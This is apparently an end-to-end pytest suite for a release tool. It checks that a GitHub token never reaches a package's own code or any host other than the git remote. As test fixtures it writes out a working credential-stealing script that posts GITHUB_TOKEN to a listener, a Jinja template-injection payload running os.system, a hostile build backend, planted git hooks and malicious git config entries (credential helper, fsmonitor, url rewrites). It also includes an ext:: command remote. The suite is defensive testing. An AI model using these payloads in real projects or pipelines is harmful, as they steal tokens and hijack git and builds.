"""The token for git goes to no code of a package, and to no host but the remote's own."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from release_attacks import Listener, listening, start, written
from tests.e2e.bench import Bench
from tests.e2e.release_bench import (
    Changelog,
    Description,
    Outside,
    Sample,
    run_git,
)
from tests.standins.effects import Effects
from tests.standins.git_http import GitServer
from tests.standins.repository import Repository
from tests.standins.serving import Answer, Fault, Request
from tests.standins.tokens import Token, Tokens
from tests.unit.wheelwright.release.programs import placed

from wheelwright.release.decide import commit
from wheelwright.release.inside import plumbing
from wheelwright.release.inside import refs as program

# -- code of the package --------------------------------------------------------------------------

# Run by the template and by the back end, where the repository's code runs with a work tree: each
# of these would run in whatever git is run there later.
PLANT = """\
import os, pathlib, stat, sys, urllib.request

def tell(where):
    token = os.environ.get("GITHUB_TOKEN", "none")
    urllib.request.urlopen(urllib.request.Request("@LISTENER@/" + where, token.encode()))

POST = f'''#!{sys.executable}
import os, sys, urllib.request
token = os.environ.get("GITHUB_TOKEN", "none")
urllib.request.urlopen(urllib.request.Request("@LISTENER@/planted", token.encode()))
'''

def executable(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)

tell("@WHO@")
post = pathlib.Path("/opt/planted")
executable(post, POST)
for program in ("git", "git-remote-http"):
    executable(pathlib.Path("/opt/venv/bin", program), POST)
for git in {pathlib.Path(each, ".git") for each in (".", "..", "/repo", "/src")}:
    if git.is_dir():
        for hook in ("pre-push", "pre-commit", "reference-transaction", "post-checkout"):
            executable(git / "hooks" / hook, POST)
        with open(git / "config", "a") as config:
            config.write(f'''
[core]
\\tfsmonitor = {post}
\\tsshCommand = {post}
\\thooksPath = {git / "hooks"}
[credential]
\\thelper = !{post}
[url "@LISTENER@/"]
\\tinsteadOf = http
[filter "planted"]
\\tclean = {post}
\\tsmudge = {post}
[include]
\\tpath = {post}.config
''')
"""

TEMPLATE = (
    '{{ cycler.__init__.__globals__.os.system("python changes/plant.py") and "" or "" }}'
    "- Something changed.\n"
)

PYPROJECT = """\
[project]
name = "sample-package"
dynamic = ["version"]
description = "A sample to release"
readme = "README.md"
requires-python = ">=3.11"

[build-system]
requires = ["hatchling>=1.27"]
build-backend = "backend"
backend-path = ["."]

[dependency-groups]
dev = ["pytest>=8"]

[tool.hatch.version]
path = "src/sample_package/__init__.py"

[tool.towncrier]
name = "sample-package"
directory = "changes"
filename = "CHANGELOG.md"
start_string = "<!-- towncrier -->\\n"
template = "changes/t.jinja"
"""

BACKEND = "import pathlib\n\nfrom hatchling.build import *\n\n" + PLANT


@pytest.mark.e2e
@pytest.mark.network
def test_a_file_of_another_encoding_is_not_edited(
    stiletto: Bench, outside: Outside, tmp_path: Path
) -> None:
    """What cannot be read as it is would be written back as something else: its place is named."""
    at = start(stiletto, outside, tmp_path / "source", Sample(), {"NOTES.md": "Notes.\n"})
    work = outside.clone("latin")
    text = (work / "CHANGELOG.md").read_text().replace("changed", "ge\xe4ndert")
    (work / "CHANGELOG.md").write_bytes(text.encode("latin-1"))
    run_git(work, "commit", "--quiet", "--all", "-m", "docs: say it in German")
    outside.land(work)
    ended = at.bench.fails(at.clone, "release-plan", "--bump=patch", *at.places, *at.token)

    place = text[: text.index("\xe4")]
    line, column = place.count("\n") + 1, len(place.rpartition("\n")[2]) + 1
    assert f"CHANGELOG.md:{line}:{column}: byte {len(place)} is not UTF-8" in ended.error


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Listen for what code of a package can tell."""
    with listening() as kept:
        yield kept


@pytest.fixture
def outside(tmp_path: Path, described: Description) -> Iterator[Outside]:
    """Return a world in which nothing has happened yet."""
    with Outside(tmp_path / "outside", described) as outside:
        yield outside


def attacking(listener: Listener) -> dict[str, str]:
    """Return the files of a package whose template and back end plant what they can."""
    return {
        "pyproject.toml": PYPROJECT,
        "src/sample_package/__init__.py": '"""A sample."""\n\n__version__ = "1.2.3"\nANSWER = 42\n',
        "changes/plant.py": PLANT.replace("@LISTENER@", listener.url).replace("@WHO@", "template"),
        "changes/t.jinja": TEMPLATE,
        "backend.py": BACKEND.replace("@LISTENER@", listener.url).replace("@WHO@", "backend"),
        "requirements.txt": "# This file was autogenerated by uv\n",
        ".gitattributes": "* filter=planted\n",
    }


@pytest.mark.slow
@pytest.mark.e2e
@pytest.mark.network
def test_code_of_the_package_gets_no_token(
    stiletto: Bench, tmp_path: Path, outside: Outside, listener: Listener
) -> None:
    """A template and a back end that plant hooks, settings and programs learn nothing."""
    sample = Sample(changelog=Changelog.TOWNCRIER)
    at = start(stiletto, outside, tmp_path / "source", sample, attacking(listener))
    ended = at.release()

    assert {"/template none", "/backend none"} <= set(listener.heard)
    assert [] == [each for each in listener.heard if not each.endswith(" none")]
    assert [] == listener.authorizations
    # The honest part of it is released as ever.
    assert 0 == ended.code, str(ended)
    changed = outside.repository.git("diff", "--name-only", "main", "release/v1.2.4").splitlines()
    assert {"CHANGELOG.md", "changes/1.feature.md", "src/sample_package/__init__.py"} == set(
        changed
    ) - {"requirements.txt", "uv.lock"}


@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.slow
def test_an_edited_file_that_became_a_link_stops(
    stiletto: Bench, tmp_path: Path, outside: Outside
) -> None:
    """A changelog that its tool turns into a link is not read, and nothing is pushed."""
    template = TEMPLATE.replace("python changes/plant.py", "ln -sf .git/description CHANGELOG.md")
    settings = '[tool.towncrier]\ndirectory = "changes"\nfilename = "CHANGELOG.md"\n'
    sample = Sample(changelog=Changelog.TOWNCRIER)
    pyproject = sample.files()["pyproject.toml"].partition("\n[tool.towncrier]")[0]
    files = {
        "pyproject.toml": f'{pyproject}\n{settings}template = "changes/t.jinja"\n',
        "changes/t.jinja": template,
    }
    at = start(stiletto, outside, tmp_path / "source", sample, files)
    ended = at.stops()

    assert "CHANGELOG.md is not a regular file after the edits" in ended.error
    assert [] == [ref for ref in outside.repository.refs() if "release" in ref]


# -- the program ----------------------------------------------------------------------------------


@dataclass
class Served:
    """A repository over HTTP, behind a token, and the program with a bare clone of it."""

    server: GitServer
    token: str
    root: Path
    env: dict[str, str] = field(default_factory=dict)

    def run(
        self, *args: str, remote: str = "", stdin: str = ""
    ) -> subprocess.CompletedProcess[str]:
        """Run the program with the token, as the container of a release does."""
        options = (f"--clone={self.root / 'clone.git'}", f"--remote={remote or self.server.url}")
        return subprocess.run(
            [sys.executable, placed(program), *options, *args],
            input=stdin,
            env={"PATH": os.environ["PATH"], "GITHUB_TOKEN": self.token, **self.env},
            capture_output=True,
            text=True,
            check=False,
        )

    def __call__(self, *args: str, remote: str = "") -> str:
        """Run the program, which has to succeed."""
        done = self.run(*args, remote=remote)
        assert 0 == done.returncode, done.stderr
        return done.stdout.strip()

    def described(self, texts: dict[str, str], removed: tuple[str, ...] = ()) -> str:
        """Describe a release commit of main in a file, and return its path."""
        parent = self.server.repository.commit("refs/heads/main")
        made = commit.ReleaseCommit(parent, 1, "Release\n", commit.edits(texts, [*removed]))
        file = self.root / "commit.json"
        file.write_text(made.json())
        return str(file)


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    """Serve a repository with all kinds of entries on its main branch."""
    tokens = Tokens()
    work = tmp_path / "work"
    work.mkdir()
    run_git(work, "init", "--quiet", "--initial-branch=main")
    written(work, {"a.txt": "a\n", "run.sh": "#!/bin/sh\n", "docs/CHANGES.md": "old\n"})
    (work / "run.sh").chmod(0o755)
    for name, target in {
        "CHANGES.md": "docs/CHANGES.md",
        "outside.md": "../../x",
        "inner.md": ".git/config",
        "loop.md": "loop.md",
    }.items():
        (work / name).symlink_to(target)
    (work / "crlf.txt").write_bytes(b"a\r\nb\r\n")
    run_git(work, "add", "--all")
    gitlink = f"160000,{'1' * 40},module"
    run_git(work, "update-index", "--add", "--cacheinfo", gitlink)
    run_git(work, "commit", "--quiet", "-m", "First")
    repository = Repository(tmp_path / "remote" / "repository.git")
    repository.git("fetch", "--quiet", str(work), "+HEAD:refs/heads/main")
    token = tokens.add(Token())
    with GitServer(Effects(), repository, "octo-org/sample", tokens) as server:
        yield Served(server, token.value, tmp_path)


def test_a_redirect_takes_the_token_nowhere(served: Served, listener: Listener) -> None:
    """A remote that sends to another host gets the clone refused, and that host no token."""
    location = ("Location", f"{listener.url}/octo-org/sample.git/info/refs?service=git-upload-pack")
    served.server.server.fail(Fault(Answer(302, b"", (location,))), lambda _: True)
    done = served.run("clone")

    assert 0 != done.returncode
    assert [] == listener.authorizations
    assert served.token not in done.stderr


def test_a_redirect_on_the_same_host_is_followed(served: Served) -> None:
    """A repository that was renamed is cloned with the token from where it is now."""
    old = served.server.url.replace("sample.git", "old.git")

    def renamed(request: Request) -> bool:
        return request.path.startswith("/octo-org/old.git/")

    target = f"{served.server.url}/info/refs?service=git-upload-pack"
    moved = Fault(Answer(301, b"", (("Location", target),)))
    served.server.server.fail(moved, renamed, times=4)
    served("clone", remote=old)

    seen = json.loads(served("look", remote=old))
    assert ["refs/heads/main"] == list(seen["refs"])


def test_a_default_branch_that_is_known_is_not_looked_up_again(served: Served) -> None:
    """A look with it sees the same, with half the requests: a release looks some twenty times."""
    served("clone")
    before = len(served.server.given)
    first = json.loads(served("look"))
    between = len(served.server.given)
    again = json.loads(served("--head=main", "look"))
    after = len(served.server.given)

    assert "main" == first["default"]
    assert first == again
    assert between - before == 2 * (after - between)


def test_nothing_around_git_is_believed(served: Served, listener: Listener) -> None:
    """Programs on PATH, settings of the user, and variables of git change nothing, get nothing."""
    home, bad = served.root / "home", served.root / "bad"
    post = f"#!{sys.executable}\nimport urllib.request as r\nr.urlopen('{listener.url}', b'x')\n"
    written(bad, dict.fromkeys(("git", "git-remote-http", "sh", "askpass", "hooks/pre-push"), post))
    for path in bad.rglob("*"):
        path.chmod(0o755)
    settings = (
        f'[core]\n\tfsmonitor = {bad}/git\n\thooksPath = {bad}/hooks\n\tsshCommand = "{bad}/git"\n'
        f"\taskPass = {bad}/askpass\n"
        f"[credential]\n\thelper = !{bad}/git\n[init]\n\ttemplateDir = {bad}\n"
        f'[url "{listener.url}/"]\n\tinsteadOf = {served.server.url}\n'
        f"[http]\n\textraHeader = X-Planted: 1\n\tproxy = {listener.url}\n"
        f'[includeIf "gitdir:/"]\n\tpath = {bad}/more\n'
    )
    written(home, {".gitconfig": settings, ".config/git/config": settings})
    served.env = {
        "PATH": f"{bad}:{os.environ['PATH']}",
        "HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "GIT_CONFIG_SYSTEM": str(home / ".gitconfig"),
        "GIT_CONFIG_PARAMETERS": f"'credential.helper'='!{bad}/git'",
        "GIT_ASKPASS": str(bad / "askpass"),
        "GIT_DIR": str(served.root / "elsewhere"),
        "GIT_EXEC_PATH": str(bad),
        "GIT_SSH_COMMAND": str(bad / "git"),
        "GIT_TEMPLATE_DIR": str(bad),
        "GIT_TRACE_CURL": str(served.root / "trace"),
        "GIT_CURL_VERBOSE": "1",
    }
    served("clone")
    made = served("release", served.described({"a.txt": "b\n"}), "refs/heads/release/v1", "")

    assert made == served.server.repository.commit("refs/heads/release/v1")
    assert ([], []) == (listener.heard, listener.authorizations)
    assert not (served.root / "trace").exists()


def test_a_remote_that_is_a_command_is_not_run(served: Served) -> None:
    """Only schemes that lead to a repository are, whatever a clone calls its origin."""
    canary = served.root / "canary"
    done = served.run("clone", remote=f"ext::touch {canary}")

    assert 0 != done.returncode
    assert not canary.exists()


@pytest.mark.parametrize(
    ("remote", "expected"),
    [
        ("https://github.com/o/r.git", "https://github.com"),
        ("https://git.example.org:8443/o/r", "https://git.example.org:8443"),
        ("http://127.0.0.1:8000/o/r", "http://127.0.0.1:8000"),
        ("http://[::1]:8000/o/r", "http://[::1]:8000"),
        ("http://git.example.org/o/r", ""),
        ("http://127.0.0.1.example.org/o/r", ""),
        ("git://github.com/o/r", ""),
        ("/somewhere/r.git", ""),
    ],
)
def test_the_token_is_for_one_host_alone(
    monkeypatch: pytest.MonkeyPatch, remote: str, expected: str
) -> None:
    """The remote's own, encrypted; or this machine itself, which needs no encryption."""
    monkeypatch.setitem(plumbing.options, "remote", remote)

    assert expected == plumbing.scope()


@pytest.mark.parametrize(
    "path",
    ["../a.txt", "/a.txt", "a/../../b", ".git/config", "x/.GIT/hooks/pre-push", "", "a//b", "a/."],
)
def test_an_edit_stays_in_the_tree(served: Served, path: str) -> None:
    """A path that leads out of the tree, or into what git keeps, is refused."""
    served("clone")
    done = served.run("commit", served.described({path: "x"}))

    assert 0 != done.returncode
    assert "cannot be in a commit" in done.stderr


@pytest.mark.parametrize("path", ["outside.md", "inner.md", "loop.md", "module", "docs"])
def test_what_is_no_file_is_not_edited(served: Served, path: str) -> None:
    """A link that leads out or nowhere, a submodule and a directory stay what they are."""
    served("clone")
    done = served.run("commit", served.described({path: "x"}))

    assert 0 != done.returncode
    assert "is no file that a release may edit" in done.stderr


def test_a_file_that_is_not_as_described_is_refused(served: Served) -> None:
    """Contents whose digest is another one are not committed."""
    served("clone")
    file = Path(served.described({"a.txt": "good"}))
    file.write_text(file.read_text().replace('"good"', '"evil"'))

    assert "its sha256 differs" in served.run("commit", str(file)).stderr
    with pytest.raises(ValueError, match="its sha256 differs"):
        commit.ReleaseCommit.read(file.read_text())


def test_modes_links_and_line_endings_are_kept(served: Served) -> None:
    """An edited file keeps its mode, a link leads to what is edited, all else is as it was."""
    served("clone")
    texts = {
        "run.sh": "#!/bin/sh\n:\n",
        "CHANGES.md": "new\r\n",
        "crlf.txt": "c\r\n",
        "new.txt": "n\n",
    }
    made = served("release", served.described(texts, ("a.txt",)), "refs/heads/x", "")
    repository = served.server.repository
    before = repository.git("ls-tree", "-r", "main").splitlines()
    after = repository.git("ls-tree", "-r", made).splitlines()
    modes = {line.split("\t")[1]: line.split(" ")[0] for line in after}

    assert {"docs/CHANGES.md", "run.sh", "new.txt", "crlf.txt"} == {
        line.split("\t")[1] for line in after if line not in before
    }
    assert {"a.txt"} == {line.split("\t")[1] for line in before} - modes.keys()
    assert ("100755", "100644", "120000") == (
        modes["run.sh"],
        modes["new.txt"],
        modes["CHANGES.md"],
    )
    assert "new" == repository.git("show", f"{made}:docs/CHANGES.md")
    stored = subprocess.run(
        ["git", "show", f"{made}:crlf.txt"], cwd=repository.path, capture_output=True, check=True
    )
    assert b"c\r\n" == stored.stdout
